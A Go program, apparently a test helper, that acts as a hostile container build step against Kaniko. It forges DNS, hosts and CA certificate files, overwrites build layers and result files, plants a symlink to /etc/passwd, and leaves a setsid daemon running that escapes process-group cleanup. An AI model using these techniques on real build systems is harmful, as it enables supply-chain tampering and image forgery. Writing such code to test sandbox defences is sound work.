// Command sabotage does what a hostile RUN would do to the push that follows it: it rewrites the files by which hosts
// and certificates are found, forges the results, and leaves a daemon running that goes on forging them.
//
//	sabotage        does all that, in a RUN
//	sabotage daemon does not come back
//	sabotage wait   comes back when a resolver has forgotten what it read of /etc/hosts
//	sabotage layers replaces the layers that the build has packed so far, and tells how many
//	sabotage left   counts the daemons
//	sabotage show   tells which files are forged
package main

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"fmt"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"time"
)

// results is where the results of a step are written in the tests' sandbox.
const results = "/results"

// forged are the files by which a push finds its registry, and knows it, and what they are made to say.
var forged = map[string]string{
	"/etc/hosts": "127.0.0.66 localhost\n", "/etc/resolv.conf": "nameserver 127.0.0.66\n",
	"/etc/nsswitch.conf": "hosts: files\n", "/etc/ssl/certs/ca-certificates.crt": "forged\n",
	"/etc/ssl/cert.pem": "forged\n",
}

// daemonLife bounds the daemon's; it ends with its sandbox before. A busy machine takes minutes for a build.
const daemonLife = 10 * time.Minute

// hostsAreKnown is a little more than the 5 s for which Go's resolver takes /etc/hosts to be as it was (cacheMaxAge in
// net/hosts.go): a step that looked names up again would be deceived only then.
const hostsAreKnown = 5200 * time.Millisecond

func main() {
	switch strings.Join(os.Args[1:], " ") {
	case "layers":
		fmt.Println("REPLACED", replaceLayers())
	case "left":
		fmt.Println("LEFT", daemons())
	case "show":
		for _, path := range slices.Sorted(maps.Keys(forged)) {
			if text, err := os.ReadFile(path); err == nil && string(text) == forged[path] {
				fmt.Println("FORGED", path)
			}
		}
	case "daemon":
		for end := time.Now().Add(daemonLife); time.Now().Before(end); time.Sleep(10 * time.Millisecond) {
			forge()
			tell("heartbeat")
		}
	case "wait":
		time.Sleep(hostsAreKnown)
	default:
		rewrite()
		forge()
		daemon := exec.Command("/proc/self/exe", "daemon")
		daemon.SysProcAttr = &syscall.SysProcAttr{Setsid: true} // out of the process group that Kaniko ends
		if err := daemon.Start(); err != nil {
			fmt.Fprintln(os.Stderr, "sabotage:", err)
			os.Exit(1)
		}
		for end := time.Now().Add(time.Minute); time.Now().Before(end) && !there("heartbeat"); { // it has done its worst once
			time.Sleep(10 * time.Millisecond)
		}
	}
}

// replaceLayers puts a layer with a forged file in the place of each that lies in the build's folder.
func replaceLayers() (replaced int) {
	var layer bytes.Buffer
	compressed := gzip.NewWriter(&layer)
	archive := tar.NewWriter(compressed)
	const forged = "forged\n"
	_ = archive.WriteHeader(&tar.Header{Name: "srv/one", Mode: 0o644, Size: int64(len(forged))}) // to memory
	_, _ = archive.Write([]byte(forged))
	_, _ = archive.Close(), compressed.Close()
	layers, _ := filepath.Glob("/kaniko/build-*/layer-*.tar.gz") // a good pattern
	for _, path := range layers {
		if os.WriteFile(path, layer.Bytes(), 0o600) == nil {
			replaced++
		}
	}
	return replaced
}

func rewrite() {
	for path, text := range forged {
		_ = os.MkdirAll(filepath.Dir(path), 0o755) //nolint:gosec // it is hostile
		_ = os.WriteFile(path, []byte(text), 0o644)
	}
}

// forge writes results.
func forge() {
	_ = os.WriteFile(filepath.Join(results, "IMAGE_DIGEST"), []byte("sha256:forged"), 0o600)
	// A result that is written through this link would overwrite another file.
	_ = os.Remove(filepath.Join(results, "IMAGE_URL"))
	_ = os.Symlink("/etc/passwd", filepath.Join(results, "IMAGE_URL"))
}

// tell writes a file of the results' folder by rename: the daemon's end may come between the two steps of a write.
func tell(name string) {
	path := filepath.Join(results, name)
	_ = os.WriteFile(path+".new", []byte("alive"), 0o600)
	_ = os.Rename(path+".new", path)
}

func there(name string) bool {
	_, err := os.Stat(filepath.Join(results, name))
	return err == nil
}

func daemons() int {
	found := 0
	lines, _ := filepath.Glob("/proc/[0-9]*/cmdline")
	for _, line := range lines {
		if text, err := os.ReadFile(line); err == nil && strings.HasSuffix(string(text), "\x00daemon\x00") {
			found++
		}
	}
	return found
}
